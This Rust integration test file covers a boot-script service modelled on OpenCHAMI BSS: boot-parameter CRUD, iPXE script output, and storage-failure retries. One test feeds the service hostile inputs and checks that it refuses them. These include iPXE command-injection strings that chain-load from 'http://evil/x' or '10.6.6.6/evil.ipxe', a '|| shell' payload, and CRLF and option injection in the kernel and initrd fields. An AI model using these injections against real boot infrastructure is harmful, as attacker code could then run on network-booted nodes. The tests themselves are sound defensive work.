//! The boot API end to end through the real Routers (inventory and boot on one store), with
//! answers checked against the upstream BSS spec, and boot scripts checked line by line.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::Arc;

use serde_json::json;
use skyport_boot::BootService;
use skyport_inventory::Inventory;
use skyport_ipxe::Settings;
use skyport_store::Store;
use skyport_testkit::app::Api;
use skyport_testkit::spec::Spec;

fn settings() -> Settings {
    Settings {
        chain_base: "http://10.0.2.2:27779".into(),
        advertise: Some("http://10.0.2.2:27779/cloud-init".into()),
        ..Settings::default()
    }
}

fn api(store: Arc<dyn Store>) -> Api {
    let routes = skyport_inventory::router(Inventory::new(store.clone()))
        .merge(skyport_boot::router(BootService::new(store, settings())));
    Api::new(
        skyport_http::app(routes),
        Spec::openchami("OpenCHAMI-bss_api_swagger.yaml").unwrap(),
    )
}

fn sqlite(dir: &tempfile::TempDir) -> Arc<dyn Store> {
    Arc::new(skyport_store_sqlite::SqliteStore::open(dir.path().join("b.db")).unwrap())
}

async fn text(api: &Api, uri: &str) -> String {
    let r = api.raw("GET", uri, &[], Vec::new()).await.expect(200);
    assert_eq!(r.headers["content-type"], "text/plain; charset=UTF-8");
    String::from_utf8(r.raw).unwrap()
}

/// A node in the inventory: component x1000c0s0b0n0 (NID 1) with NIC 52:54:00:12:34:56, and a
/// disabled x1000c0s0b0n1 (NID 2) with NIC 52:54:00:12:34:57.
async fn seed_node(api: &Api) {
    skyport_testkit::seed::node(
        api,
        json!([{"ID": "x1000c0s0b0n0", "State": "Ready", "NID": 1},
               {"ID": "x1000c0s0b0n1", "State": "Ready", "NID": 2, "Enabled": false}]),
    )
    .await;
    let nic = json!({"MACAddress": "52:54:00:12:34:57", "ComponentID": "x1000c0s0b0n1"});
    api.call(
        "POST",
        "/hsm/v2/Inventory/EthernetInterfaces",
        "",
        Some(nic),
    )
    .await
    .expect(201);
}

const PARAMS: &str = "/boot/v1/bootparameters";

#[tokio::test]
async fn boot_parameters_crud() {
    let dir = tempfile::tempdir().unwrap();
    let api = api(sqlite(&dir));
    let bp = json!({"hosts": ["x1000c0s0b0n0"], "macs": ["52-54-00-AA-BB-CC"], "nids": [7],
                    "kernel": "http://10.0.2.2/k", "initrd": "http://10.0.2.2/i", "params": "console=ttyS0"});
    let r = api.call("POST", PARAMS, PARAMS, Some(bp.clone())).await;
    assert!(r.expect(201).raw.is_empty());
    let r = api.call("POST", PARAMS, PARAMS, Some(bp)).await.expect(400);
    // BSS's text in `detail`, which entries in the `context` member.
    assert_eq!(r.detail(), "Bad Request: postgres.Add: data already exists");
    assert!(
        r.context().contains("host:x1000c0s0b0n0"),
        "{}",
        r.context()
    );

    let r = api.get(PARAMS, PARAMS).await.expect(200);
    assert_eq!(r.headers["content-type"], "application/json; charset=UTF-8");
    assert_eq!(r.body.as_array().unwrap().len(), 3);
    let r = api.get("/boot/v1/bootparameters?mac=52:54:00:aa:bb:cc", PARAMS);
    assert_eq!(
        r.await.expect(200).body,
        json!([{"macs": ["52:54:00:aa:bb:cc"], "params": "console=ttyS0", "kernel": "http://10.0.2.2/k", "initrd": "http://10.0.2.2/i",
                "cloud-init": {"meta-data": null, "user-data": null, "phone-home": {"pub_key_dsa": "", "pub_key_rsa": "", "pub_key_ecdsa": "", "instance_id": "", "hostname": "", "fqdn": ""}}}])
    );
    let r = api.get(
        "/boot/v1/bootparameters?name=x1000c0s0b0n0,x9c0s0b0n0&nid=7",
        PARAMS,
    );
    assert_eq!(r.await.expect(200).body.as_array().unwrap().len(), 2);
    api.steps([
        (
            "GET",
            "/boot/v1/bootparameters?name=x9c0s0b0n0",
            PARAMS,
            None,
            404,
        ),
        (
            "GET",
            "/boot/v1/bootparameters?nid=seven",
            PARAMS,
            None,
            400,
        ),
    ])
    .await;

    // PATCH changes only what it names; a node without parameters is 404, and so (as BSS) is
    // an empty PATCH.
    let quiet = json!({"nids": [7], "params": "quiet"});
    api.call("PATCH", PARAMS, "", Some(quiet)).await.expect(200);
    let r = api
        .get("/boot/v1/bootparameters?nid=7", "")
        .await
        .expect(200);
    assert_eq!(
        (r.body[0]["params"].as_str(), r.body[0]["kernel"].as_str()),
        (Some("quiet"), Some("http://10.0.2.2/k"))
    );
    let r = api.call(
        "PATCH",
        PARAMS,
        "",
        Some(json!({"nids": [7, 8], "params": "x"})),
    );
    assert_eq!(
        r.await.expect(404).detail(),
        "Not Found: postgres.Update: data does not exist: nodes table: macs=[] xnames=[] nids=[8]"
    );
    // PUT replaces (and creates).
    let k2 = json!({"nids": [7, 8], "kernel": "http://10.0.2.2/k2"});
    api.steps([
        ("PATCH", PARAMS, "", Some(json!({"nids": [7]})), 404),
        ("PUT", PARAMS, PARAMS, Some(k2), 200),
    ])
    .await;
    let r = api
        .get("/boot/v1/bootparameters?nid=8", "")
        .await
        .expect(200);
    assert_eq!(r.body[0]["kernel"], "http://10.0.2.2/k2");

    // DELETE by node, then by configuration.
    let first = json!({"kernel": "http://10.0.2.2/k", "initrd": "http://10.0.2.2/i", "params": "console=ttyS0"});
    api.steps([
        ("PUT", PARAMS, PARAMS, Some(json!({"nids": [9]})), 400),
        ("DELETE", PARAMS, "", Some(json!({"nids": [8]})), 200),
        ("GET", "/boot/v1/bootparameters?nid=8", "", None, 404),
        ("DELETE", PARAMS, "", Some(first), 200),
    ])
    .await;
    let r = api.get(PARAMS, "").await.expect(200);
    assert_eq!(
        r.body,
        json!([{"nids": [7], "kernel": "http://10.0.2.2/k2", "cloud-init": {"meta-data": null, "user-data": null,
                "phone-home": {"pub_key_dsa": "", "pub_key_rsa": "", "pub_key_ecdsa": "", "instance_id": "", "hostname": "", "fqdn": ""}}}])
    );
}

#[tokio::test]
async fn bad_and_unsafe_input_is_refused_and_nothing_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let api = api(sqlite(&dir));
    for (body, needle) in [
        (
            json!({"hosts": ["x1000c0s0b0"], "kernel": "http://k"}),
            "not a Node",
        ),
        (
            json!({"hosts": ["node-1"], "kernel": "http://k"}),
            "not a valid xname",
        ),
        (
            json!({"macs": ["52:54:00:12:34"], "kernel": "http://k"}),
            "macs[0]",
        ),
        (json!({"nids": [-4], "kernel": "http://k"}), "out of range"),
        (json!({"kernel": "http://k"}), "no hosts"),
        (
            json!({"nids": [1], "kernel": "http://k", "params": "quiet\nchain http://evil/x"}),
            "params",
        ),
        (
            json!({"nids": [1], "kernel": "http://k", "params": "quiet || shell"}),
            "params",
        ),
        (
            json!({"nids": [1], "kernel": "http://k", "params": "root=${root-path}"}),
            "params",
        ),
        (json!({"nids": [1], "kernel": "http://k extra=1"}), "kernel"),
        // Found by hostile testing: `;` ran a second iPXE command and `#` dropped xname=, nid=,
        // BOOTIF=, ds= and the retry; iPXE options and non-URLs in the kernel slot.
        (
            json!({"nids": [1], "kernel": "http://k", "params": "console=ttyS0 ; chain http://10.6.6.6/evil.ipxe #"}),
            "params",
        ),
        (
            json!({"nids": [1], "kernel": "http://k", "params": "quiet #"}),
            "params",
        ),
        (json!({"nids": [1], "kernel": "--name=evil"}), "kernel"),
        (
            json!({"nids": [1], "kernel": "http://k", "initrd": "-n"}),
            "initrd",
        ),
        (json!({"nids": [1], "kernel": "vmlinuz"}), "kernel"),
        (
            json!({"nids": [1], "kernel": "http://k", "initrd": "http://i\r\nshell"}),
            "initrd",
        ),
    ] {
        let r = api
            .call("POST", PARAMS, "", Some(body.clone()))
            .await
            .expect(400);
        assert!(r.explained().contains(needle), "{body}: {}", r.explained());
    }
    // Malformed JSON (named), the wrong content type, no body.
    for (content_type, body, status, needle) in [
        (
            Some("application/json"),
            &b"{\"nids\": [1],"[..],
            400,
            "invalid JSON",
        ),
        (Some("text/plain"), b"{}", 415, ""),
        (None, b"", 400, ""),
    ] {
        let headers: Vec<_> = content_type
            .map(|t| ("content-type", t))
            .into_iter()
            .collect();
        let r = api.raw("POST", PARAMS, &headers, body.to_vec()).await;
        assert!(r.expect(status).explained().contains(needle));
    }
    // Nothing stored: Go's nil slice, `null`, as BSS answers.
    let r = api.get(PARAMS, "").await.expect(200);
    assert_eq!(r.body, json!(null), "nothing was stored");
}

#[tokio::test]
async fn boot_scripts() {
    let dir = tempfile::tempdir().unwrap();
    let api = api(sqlite(&dir));
    seed_node(&api).await;
    let r = api.call("POST", "/boot/v1/bootparameters", "", Some(json!({"hosts": ["x1000c0s0b0n0", "x1000c0s0b0n1"],
        "kernel": "http://10.0.2.2:27779/images/vmlinuz", "initrd": "http://10.0.2.2:27779/images/initrd", "params": "console=ttyS0"}))).await.expect(201);
    assert!(r.headers.contains_key("bss-referral-token"));
    // PUT sends the referral token as POST does (BSS sets it on both).
    let r = api.call("PUT", "/boot/v1/bootparameters", "", Some(json!({"hosts": ["x1000c0s0b0n0", "x1000c0s0b0n1"],
        "kernel": "http://10.0.2.2:27779/images/vmlinuz", "initrd": "http://10.0.2.2:27779/images/initrd", "params": "console=ttyS0"}))).await.expect(200);
    assert!(
        r.headers.contains_key("bss-referral-token"),
        "{:?}",
        r.headers
    );

    // Known node, asked by MAC as iPXE asks (colons percent-encoded).
    let s = text(&api, "/boot/v1/bootscript?mac=52%3A54%3A00%3A12%3A34%3A56").await;
    assert_eq!(
        s,
        "#!ipxe\n\
         kernel --name kernel http://10.0.2.2:27779/images/vmlinuz initrd=initrd console=ttyS0 xname=x1000c0s0b0n0 nid=1 BOOTIF=01-52-54-00-12-34-56 ds=nocloud-net;s=http://10.0.2.2:27779/cloud-init/ || goto boot_retry\n\
         initrd --name initrd http://10.0.2.2:27779/images/initrd || goto boot_retry\n\
         boot || goto boot_retry\n\
         :boot_retry\n\
         sleep 30\n\
         chain http://10.0.2.2:27779/boot/v1/bootscript?mac=52:54:00:12:34:56&retry=1\n\n"
    );
    // By name and by NID: same node, no BOOTIF, retry counted; told to ask again by its
    // first MAC, as BSS does (`mac = comp.Mac[0]` before the chain line).
    let s = text(&api, "/boot/v1/bootscript?name=x1000c0s0b0n0&retry=2").await;
    assert!(
        s.contains(" xname=x1000c0s0b0n0 nid=1 ds=")
            && s.ends_with("?mac=52:54:00:12:34:56&retry=3\n\n"),
        "{s}"
    );
    let s = text(&api, "/boot/v1/bootscript?nid=1").await;
    assert!(s.contains("xname=x1000c0s0b0n0"), "{s}");
    // JSON form.
    let r = api
        .get("/boot/v1/bootscript?mac=52:54:00:12:34:56&json=1", "")
        .await
        .expect(200);
    assert_eq!(
        r.body["kernel"]["path"],
        "http://10.0.2.2:27779/images/vmlinuz"
    );
    assert!(
        r.body["params"]
            .as_str()
            .unwrap()
            .starts_with("kernel initrd=initrd console=ttyS0")
    );

    // Disabled node, unknown MAC, node without parameters: the unknown script.
    for uri in [
        "/boot/v1/bootscript?mac=52:54:00:12:34:57",
        "/boot/v1/bootscript?mac=52:54:00:99:99:99&ts=1795500000",
    ] {
        let s = text(&api, uri).await;
        assert!(
            s.starts_with(
                "#!ipxe\nsleep 10\nchain http://10.0.2.2:27779/boot/v1/bootscript?mac=52:54:00:"
            ),
            "{s}"
        );
        assert!(s.contains("&arch=${buildarch}&ts="), "{s}");
    }
    let s = text(
        &api,
        "/boot/v1/bootscript?mac=52:54:00:99:99:99&ts=1795500000",
    )
    .await;
    assert!(s.ends_with("&ts=1795500000\n\n"));

    // A request naming no node is a 400 problem, as in BSS; a bad MAC too.
    let r = api
        .get("/boot/v1/bootscript", "/boot/v1/bootscript")
        .await
        .expect(400);
    assert_eq!(r.detail(), "Need a mac=, name=, or nid= parameter");
    api.get("/boot/v1/bootscript?mac=zz", "/boot/v1/bootscript")
        .await
        .expect(400);

    // The fetch was recorded.
    let r = api
        .get(
            "/boot/v1/endpoint-history?name=x1000c0s0b0n0",
            "/boot/v1/endpoint-history",
        )
        .await
        .expect(200);
    assert_eq!(r.body[0]["endpoint"], "bootscript");
    assert!(r.body[0]["last_epoch"].as_i64().unwrap() > 1_700_000_000);
    // An endpoint BSS never records matches nothing, as in BSS.
    let r = api
        .get("/boot/v1/endpoint-history?endpoint=bogus", "")
        .await
        .expect(200);
    assert_eq!(r.body, json!([]));

    // hosts, dumpstate, service routes.
    let r = api
        .get("/boot/v1/hosts", "/boot/v1/hosts")
        .await
        .expect(200);
    let n0 = r
        .body
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["ID"] == "x1000c0s0b0n0")
        .unwrap();
    assert_eq!(n0["MAC"], json!(["52:54:00:12:34:56"]));
    let r = api
        .get("/boot/v1/dumpstate", "/boot/v1/dumpstate")
        .await
        .expect(200);
    assert_eq!(r.body["Params"].as_array().unwrap().len(), 2);
    for (uri, want) in [
        ("/boot/v1/service/status", "{\"bss-status\":\"running\"}\n"),
        (
            "/boot/v1/service/storage/status",
            "{\"bss-storage-backend\":{\"name\":\"sqlite\",\"status\":\"connected\"}}\n",
        ),
    ] {
        let r = api.raw("GET", uri, &[], Vec::new()).await.expect(200);
        assert_eq!(String::from_utf8(r.raw).unwrap(), want);
    }
    api.steps([
        ("GET", "/boot/v1/service/hsm", "", None, 200),
        ("GET", "/boot/v1/service/version", "", None, 200),
    ])
    .await;
}

/// When storage fails, a booting node still gets a valid script that says why and retries.
#[tokio::test]
async fn storage_failure_gives_a_retry_script() {
    let port = skyport_testkit::free_port().unwrap();
    let client = skyport_testkit::dynamo_client(&format!("http://127.0.0.1:{port}"), Some(1)).await;
    let store = skyport_store_dynamo::DynamoStore::new(client, "down");
    let api = api(Arc::new(store));
    let s = text(&api, "/boot/v1/bootscript?mac=52:54:00:12:34:56").await;
    let lines: Vec<&str> = s.lines().collect();
    assert_eq!(lines[0], "#!ipxe");
    assert!(
        lines[1].starts_with("echo Skyport cannot boot this node yet: "),
        "{s}"
    );
    assert_eq!(lines[3], "sleep 30");
    assert_eq!(
        lines[4],
        "chain http://10.0.2.2:27779/boot/v1/bootscript?mac=52:54:00:12:34:56&retry=1"
    );
    // The admin API answers 503 instead.
    api.get("/boot/v1/bootparameters", "").await.expect(503);
    api.raw("GET", "/boot/v1/service/storage/status", &[], Vec::new())
        .await
        .expect(503);
}
